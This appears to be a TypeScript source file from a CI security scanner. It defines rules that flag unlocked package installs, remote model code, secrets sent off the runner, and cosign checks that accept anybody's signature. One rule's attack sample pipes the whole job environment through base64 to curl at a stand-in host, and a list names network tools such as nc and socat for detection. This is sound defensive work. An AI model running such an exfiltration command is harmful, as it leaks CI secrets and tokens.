import type { FindingDraft } from '../../../findings/index.ts';
import type { Effect } from '../../../pipelines/index.ts';
import type { ScriptCommand } from '../../../syntax/index.ts';
import type { Rule } from '../../rule.ts';
import { startsAgent } from '../agent-job.ts';
import { carriedSecret } from './carried-secrets.ts';
import { workflow } from './example-workflow.ts';
import { gitHubSteps, hygiene, reachOf, type StepScope, stepName, subjectOf } from './job-walk.ts';

/** Ecosystems whose packages can run code when they are installed or used, and that have lock files. */
const LOCKABLE: ReadonlySet<string> = new Set(['npm', 'gem', 'pypi', 'cargo', 'composer', 'nuget']);

/** CI027: packages that no lock file names. */
export const unlockedInstall: Rule = {
  id: 'CI027',
  name: 'unlocked-install',
  title: 'Packages are installed without a lock',
  what: 'A step installs packages by name, or a list of them without hashes, or the newest version of a tool: nothing says what comes.',
  why: 'Whoever publishes a new version of one of them, or of something that it needs, runs code in this job.',
  sources: ['OpenSSF Scorecard Pinned-Dependencies', 'zizmor adhoc-packages'],
  severity: 'low',
  confidence: 'medium',
  tier: 'pedantic',
  family: 'CI',
  fix: 'none',
  advice: 'Install from a lock file (`npm ci`, `pip install --require-hashes`, `bundle install`).',
  tags: ['CWE-1357', 'CWE-829', 'OWASP-CICD-SEC-3'],
  attack: workflow({ steps: '- run: npm install left-pad' }),
  benign: workflow({ steps: '- run: npm ci' }),
  check: (facts) =>
    gitHubSteps(facts).flatMap((scope) => {
      if (startsAgent(facts, scope.pipeline, scope.job)) return [];
      const seen = new Set<number>();
      return scope.step.effects.flatMap((effect): readonly FindingDraft[] => {
        const what = unlocked(effect);
        if (what === undefined || seen.has(effect.place.span.start)) return [];
        seen.add(effect.place.span.start);
        return [
          {
            rule: 'CI027',
            message: `${stepName(scope.step)} installs ${what} without a lock`,
            severity: 'low',
            confidence: 'medium',
            place: effect.place,
            subject: subjectOf(scope, stepName(scope.step), what),
          },
        ];
      });
    }),
};

/** Set-up actions take the newest version when none, or only a word, is given. */
function isNewest(version: string | undefined): boolean {
  return version === undefined || /^(?:latest|main|master|stable|nightly|)$/.test(version.trim());
}

function unlocked(effect: Effect): string | undefined {
  if (effect.kind === 'install' && effect.ecosystem === 'binary' && isNewest(effect.version)) {
    return `the newest ${effect.name ?? 'version of a tool'}`;
  }
  if (effect.kind === 'install' && LOCKABLE.has(effect.ecosystem) && !effect.pipedToShell) {
    return effect.name ?? 'packages';
  }
  // Other managers keep to a lock file that they find.
  if (effect.kind === 'build' && effect.installs && !effect.locked && /^pip3?$/.test(effect.tool)) {
    return 'a list of packages';
  }
  return undefined;
}

const REMOTE_CODE = /\btrust_remote_code\s*=\s*True\b|--trust[-_]remote[-_]code\b/;

/** CI028: code that lies beside the weights of a model. */
export const remoteModelCode: Rule = {
  id: 'CI028',
  name: 'remote-model-code',
  title: 'A model brings its own code',
  what: 'A script loads a model with `trust_remote_code`.',
  why: 'The repository of the model holds Python that runs in this job. Whoever may push there, or takes the name over, runs commands here.',
  sources: ['Hugging Face documentation, "Custom models"', 'CWE-494'],
  severity: 'medium',
  confidence: 'high',
  tier: 'regular',
  family: 'CI',
  fix: 'none',
  advice: 'Use models without code of their own, or name the commit (`revision=`) and read its code.',
  tags: ['CWE-494', 'CWE-829', 'OWASP-CICD-SEC-3'],
  attack: workflow({ steps: '- run: python evaluate.py --trust-remote-code' }),
  benign: workflow({ steps: '- run: python evaluate.py' }),
  check: (facts) =>
    gitHubSteps(facts).flatMap((scope): readonly FindingDraft[] => {
      const text = scope.step.run?.text;
      const match = text === undefined ? null : REMOTE_CODE.exec(text.text);
      if (text === undefined || match === null) return [];
      const end = match.index + match[0].length;
      const revised = /\brevision\s*=|--revision\b/.test(text.text);
      return [
        {
          rule: 'CI028',
          message: `${stepName(scope.step)} runs code that comes with a model`,
          severity: revised ? 'low' : 'medium',
          confidence: 'high',
          place: {
            file: text.place.file,
            span: { start: text.offsetOf(match.index), end: text.offsetOf(end - 1) + 1 },
          },
          subject: subjectOf(scope, stepName(scope.step), 'model code'),
        },
      ];
    }),
};

const DUMPING: ReadonlySet<string> = new Set(['env', 'printenv']);
const SENDING: ReadonlySet<string> = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'http', 'xh']);

/** CI032: every variable of the job, or a secret in a name that is looked up, goes to another machine. */
export const environmentSent: Rule = {
  id: 'CI032',
  name: 'environment-sent',
  title: 'The whole environment, or a secret, is sent elsewhere',
  what: 'A script lists all variables (`env`, `printenv`) and gives them to a program that sends; or it puts a secret into a name that is looked up (`dig`, `nslookup`), or into a bare connection (`nc`, `telnet`).',
  why: 'The environment of a job holds its secrets and the tokens of the runner. Stolen packages and moved tags of actions steal exactly like this.',
  sources: ['CVE-2025-30066', 'Codecov Bash uploader (2021)', 'CWE-200'],
  severity: 'high',
  confidence: 'high',
  tier: 'regular',
  family: 'CI',
  fix: 'none',
  advice: 'Send the named values that the receiver needs, and none of them a secret.',
  tags: ['CWE-200', 'CWE-506', 'OWASP-CICD-SEC-6'],
  attack: workflow({ steps: '- run: env | base64 | curl -d @- https://collect.example.test/' }),
  benign: workflow({ steps: '- run: env | sort' }),
  check: (facts) =>
    gitHubSteps(facts).flatMap((scope): readonly FindingDraft[] => {
      const { run } = scope.step;
      const dump = run === undefined ? undefined : sentDump(run.script.commands);
      const carrier = dump === undefined ? carriedSecret(scope) : undefined;
      const found = dump ?? carrier;
      if (run === undefined || found === undefined) return [];
      const { place, offsetOf } = run.text;
      const program = carrier?.words[0]?.literal ?? '';
      return [
        {
          rule: 'CI032',
          message:
            carrier === undefined
              ? `${stepName(scope.step)} sends every variable of the job elsewhere`
              : `${stepName(scope.step)} gives a secret to ${program}, which carries it to whoever listens`,
          severity: 'high',
          confidence: 'high',
          place: {
            file: place.file,
            span: { start: offsetOf(found.span.start), end: offsetOf(found.span.end - 1) + 1 },
          },
          subject: subjectOf(scope, stepName(scope.step), carrier === undefined ? 'environment' : program),
        },
      ];
    }),
};

/** The dump, when it flows into a sender: by a pipe, in a substitution, or through a variable. */
function sentDump(commands: readonly ScriptCommand[]): ScriptCommand | undefined {
  const senders = commands.filter(({ words }) => SENDING.has(words[0]?.literal ?? ''));
  if (senders.length === 0) return undefined;
  return commands.find((command) => {
    const { words, pipeline, span } = command;
    // With arguments `env` starts a program and `printenv` names variables.
    if (!DUMPING.has(words[0]?.literal ?? '') || words.length > 1) return false;
    const holders = commands.flatMap(({ assignments }) =>
      assignments.filter((one) => one.span.start <= span.start && span.end <= one.span.end).map(({ name }) => name),
    );
    return senders.some(
      (sender) =>
        (sender.pipeline.id === pipeline.id && sender.pipeline.position > pipeline.position) ||
        (sender.span.start <= span.start && span.end <= sender.span.end) ||
        sender.words.some(({ expansions }) => expansions.some(({ name }) => holders.includes(name ?? ''))),
    );
  });
}

/** CI029: a signature of anybody. */
export const unboundSignature: Rule = {
  id: 'CI029',
  name: 'signature-of-anybody',
  title: 'A signature is checked, but not whose it is',
  what: '`cosign verify` has neither a key nor the identity that must have signed.',
  why: 'Everybody can sign with a certificate of their own; without the expected identity every such signature passes.',
  sources: ['Sigstore documentation, "Verifying signatures"', 'CWE-347'],
  severity: 'low',
  confidence: 'high',
  tier: 'pedantic',
  family: 'CI',
  fix: 'none',
  advice: 'Add `--certificate-identity` and `--certificate-oidc-issuer`, or `--key`.',
  tags: ['CWE-347', 'CWE-345', 'OWASP-CICD-SEC-9'],
  attack: workflow({ steps: '- run: cosign verify-blob --signature tool.sig --certificate tool.crt tool' }),
  benign: workflow({ steps: '- run: cosign verify-blob --key release.pub --signature tool.sig tool' }),
  check: (facts) =>
    gitHubSteps(facts).flatMap((scope) =>
      (scope.step.run?.script.commands ?? []).filter(acceptsAnybody).map((command) => signatureDraft(scope, command)),
    ),
};

function acceptsAnybody({ words }: ScriptCommand): boolean {
  if (words[0]?.literal !== 'cosign' || !/^verify(?:-|$)/.test(words[1]?.literal ?? '')) return false;
  return !words.some(({ source }) => /^--?(?:key|k|certificate-identity(?:-regexp)?|sk|policy)(?:=|$)/.test(source));
}

function signatureDraft(scope: StepScope, { span }: ScriptCommand): FindingDraft {
  const { step } = scope;
  const text = step.run?.text;
  const place =
    text === undefined
      ? step.place
      : { file: text.place.file, span: { start: text.offsetOf(span.start), end: text.offsetOf(span.end - 1) + 1 } };
  return {
    rule: 'CI029',
    message: `${stepName(step)} accepts a signature of anybody`,
    severity: reachOf(scope) === 'inside' ? 'low' : hygiene(scope, 'medium'),
    confidence: 'high',
    place,
    subject: subjectOf(scope, stepName(step), 'signature'),
  };
}
